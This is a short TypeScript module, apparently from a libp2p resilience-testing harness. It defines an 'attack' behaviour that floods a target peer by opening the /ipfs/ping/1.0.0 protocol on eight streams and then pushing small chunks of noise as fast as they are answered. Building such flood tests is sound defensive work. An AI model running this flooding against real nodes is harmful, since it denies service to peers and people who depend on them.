/** libp2p pings, one after the other, as fast as they are answered, on several streams. */
import type { Behaviour } from '../attack/target.js'
import { data, flooding, noise1MiB, opening, streams } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? streams(0, 8, (stream) => opening(stream, '/ipfs/ping/1.0.0')) : streams(0, 8, (stream) => data(stream, noise1MiB.subarray(0, 32))))
